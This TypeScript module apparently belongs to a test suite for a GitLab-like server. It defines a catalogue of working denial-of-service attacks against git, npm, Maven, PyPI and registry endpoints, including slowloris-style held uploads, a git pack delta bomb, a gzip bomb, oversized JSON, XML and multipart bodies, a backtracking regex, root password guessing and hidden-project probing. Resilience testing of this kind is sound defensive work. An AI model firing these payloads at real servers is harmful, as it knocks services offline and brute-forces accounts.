import { basic, privateToken } from '../support/app.ts';
import { npmTarball, publication, tarball } from '../support/npm-tarball.ts';
import { packOfCopies, pushBody } from '../support/raw-pack.ts';
import { rawRequest } from '../support/raw-request.ts';
import { sha256 } from '../support/registry.ts';

/** A server, and what an attacker has there: an account, and a project of their own. */
export interface Victim {
  url: string;
  port: number;
  username: string;
  token: string;
  /** The attacker's project. It is public, and has a storage limit of 5 MB. */
  projectId: number;
  projectPath: string;
  /** The id of an image in it with long tags. */
  imageId: number;
  /** A project that the attacker may not see. */
  hiddenPath: string;
}

/** Requests are counted by their status; 0 is a connection that was ended. */
export type Fire = (method: string, path: string, init?: RequestInit) => Promise<number>;

export interface Attack {
  name: string;
  /** How many do it at once. */
  atOnce: number;
  /** How long each waits between two of them, in milliseconds. */
  pauseMs: number;
  run(fire: Fire, victim: Victim): Promise<unknown>;
}

const JSON_TYPE = { 'Content-Type': 'application/json' };
const FORM = { 'Content-Type': 'application/x-www-form-urlencoded' };
const MEBIBYTE = 1024 * 1024;
const as = ({ token }: Victim) => privateToken(token);
const packages = ({ projectId }: Victim) => `/api/v4/projects/${projectId}/packages`;
const attack = (name: string, atOnce: number, pauseMs: number, run: Attack['run']): Attack => ({
  name,
  atOnce,
  pauseMs,
  run,
});

/** The beginning of a request that is never sent whole: bytes now and then, and at last the connection is closed. */
function slowly({ port, username, token }: Victim, head: string, start: string, pauses: number) {
  const { Authorization } = basic(username, token);
  const lines = [head, 'Host: 127.0.0.1', `Authorization: ${Authorization}`, 'Content-Length: 1000000', '', start];
  const more = Array.from({ length: pauses }, () => [1000, 'x']).flat();
  return rawRequest(port, [lines.join('\r\n'), ...more], { silenceMs: 1000, timeoutMs: (pauses + 1) * 1000 });
}

const lists = Buffer.from(`{"a":[${'[],'.repeat(10 * MEBIBYTE)}0]}`);
const zipped = Bun.gzipSync(lists);
const objects = Buffer.from(`{"a":[${'{},'.repeat(1_400_000)}{}]}`);
const elements = Buffer.from(`<metadata>${'<a/>'.repeat(1_500_000)}</metadata>`);
const bomb = packOfCopies(32_768);
const plainPack = packOfCopies(1);

function push(ref: string, id: string, pack: Uint8Array): Attack['run'] {
  return (fire, victim) =>
    fire('POST', `/${victim.projectPath}.git/git-receive-pack`, {
      headers: { ...basic(victim.username, victim.token), 'Content-Type': 'application/x-git-receive-pack-request' },
      body: pushBody(ref, id, pack),
    });
}

const npmBody =
  (body: Uint8Array<ArrayBuffer>, more = {}) =>
  (fire: Fire, victim: Victim) =>
    fire('PUT', `${packages(victim)}/npm/attack`, { headers: { ...as(victim), ...JSON_TYPE, ...more }, body });

/** Those that only read, write into forms, or guess. */
const REQUESTS: readonly Attack[] = [
  attack('S1 form of many pairs', 2, 200, (fire, victim) =>
    fire('POST', '/api/v4/groups', { headers: { ...as(victim), ...FORM }, body: '[]=&'.repeat(131_072) }),
  ),
  attack('S7 XML of many elements', 2, 500, (fire, victim) =>
    fire('PUT', `${packages(victim)}/maven/com/a/maven-metadata.xml`, { headers: as(victim), body: elements }),
  ),
  attack('S8 patterns of tags', 4, 200, (fire, victim) =>
    fire('DELETE', `/api/v4/projects/${victim.projectId}/registry/repositories/${victim.imageId}/tags`, {
      headers: { ...as(victim), ...JSON_TYPE },
      body: JSON.stringify({ name_regex_delete: `${'(a?){10}'.repeat(20)}b` }),
    }),
  ),
  attack('S10 hidden names', 4, 50, (fire, { hiddenPath }) =>
    fire('GET', `/api/v4/projects/${encodeURIComponent(hiddenPath)}`),
  ),
  attack('S11 wrong passwords', 2, 200, (fire) => fire('GET', '/v2/', { headers: basic('root', crypto.randomUUID()) })),
  attack('S13 values of wrong types', 2, 100, (fire, victim) =>
    fire('PUT', `/api/v4/projects/${victim.projectId}`, {
      headers: { ...as(victim), ...JSON_TYPE },
      body: `{"lfs_enabled":${'['.repeat(50)}{"toString":1}${']'.repeat(50)}}`,
    }),
  ),
  attack('S13 commands that git does not have', 2, 200, (fire, { projectPath }) =>
    fire('POST', `/${projectPath}.git/git-upload-pack`, {
      headers: { 'Content-Type': 'application/x-git-upload-pack-request', 'Git-Protocol': 'version=2' },
      body: '0017command=bundle-uri\n0000',
    }),
  ),
  attack('S14 many scopes', 2, 300, (fire, victim) =>
    fire('POST', `/api/v4/projects/${victim.projectId}/deploy_tokens`, {
      headers: { ...as(victim), ...JSON_TYPE },
      body: `{"name":"a","scopes":[${'0,'.repeat(340_000)}0]}`,
    }),
  ),
  attack('S14 form of many parts', 2, 300, (fire, victim) =>
    fire('POST', `${packages(victim)}/pypi`, {
      headers: { ...as(victim), 'Content-Type': 'multipart/form-data; boundary=x' },
      body: `${'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'.repeat(16_000)}--x--\r\n`,
    }),
  ),
];

const manifest = { name: 'attack', version: '1.0.0' };
const files = await tarball(Array.from({ length: 20_000 }, (_, i) => ({ name: `package/${i}`, content: '' })));
const refused = await npmTarball(manifest, 'x'.repeat(MEBIBYTE));

/** Those that send bytes, or hold connections. */
const BODIES: readonly Attack[] = [
  attack('S2 replaced objects', 1, 1000, push('refs/replace/a', 'a'.repeat(40), plainPack)),
  attack('S4 delta that expands', 2, 1000, push('refs/tags/bomb', 'a'.repeat(40), bomb)),
  attack('S5 gzip of lists', 2, 500, npmBody(zipped, { 'Content-Encoding': 'gzip' })),
  attack('S5 many objects', 2, 500, npmBody(objects)),
  attack('S5 archive of many files', 1, 1000, npmBody(Buffer.from(JSON.stringify(publication(manifest, files))))),
  attack('S3 slow fetches', 4, 500, (_, victim) =>
    slowly(victim, `POST /${victim.projectPath}.git/git-upload-pack HTTP/1.1`, '\r\n0032want ', 20),
  ),
  attack('S6 parked uploads', 40, 500, (_, victim) =>
    slowly(victim, `PUT ${packages(victim)}/generic/parked/1/f HTTP/1.1`, `\r\n${'y'.repeat(10_000)}`, 20),
  ),
  attack('S9 unfinished uploads', 2, 500, async (fire, victim) => {
    const headers = basic(victim.username, victim.token);
    await fire('POST', `/v2/${victim.projectPath}/blobs/uploads/?digest=${sha256('other')}`, {
      headers,
      body: Buffer.alloc(MEBIBYTE),
    });
  }),
  attack(
    'S9 publishes that are refused',
    1,
    1000,
    npmBody(Buffer.from(JSON.stringify(publication(manifest, refused)))),
  ),
];

export const ATTACKS: readonly Attack[] = [...REQUESTS, ...BODIES];
